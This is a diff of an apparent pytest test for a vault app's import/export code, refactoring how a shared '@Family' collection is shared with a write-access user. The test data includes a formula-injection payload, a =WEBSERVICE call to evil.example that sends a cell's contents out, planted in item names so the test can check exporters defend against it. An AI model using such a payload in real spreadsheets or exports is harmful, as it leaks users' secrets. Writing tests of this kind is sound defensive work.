@@ -6,7 +6,7 @@ import io
 
 import pytest
 
-from conftest import Vault
+from conftest import Vault, share
 from oppmini.transfer import exporters, importers
 
 PLANTED = '=WEBSERVICE("https://evil.example/x?p="&J3)'
@@ -25,7 +25,7 @@ def planted(vault, auth):
     """bob (write) plants formulas in alice's shared collection "@Family"; alice has one clean item of her own."""
     bob = Vault(vault.client, auth.user("bob"))
     family = vault.put("collections", {"names": ["@Family"]})["collections"][0]["id"]
-    vault.put(f"collections/{family}/members", {"members": [{"username": "bob", "role": "write"}]})
+    share(vault, family, bob, "bob", "write")
     bob.add_items(
         {
             "name": PLANTED,
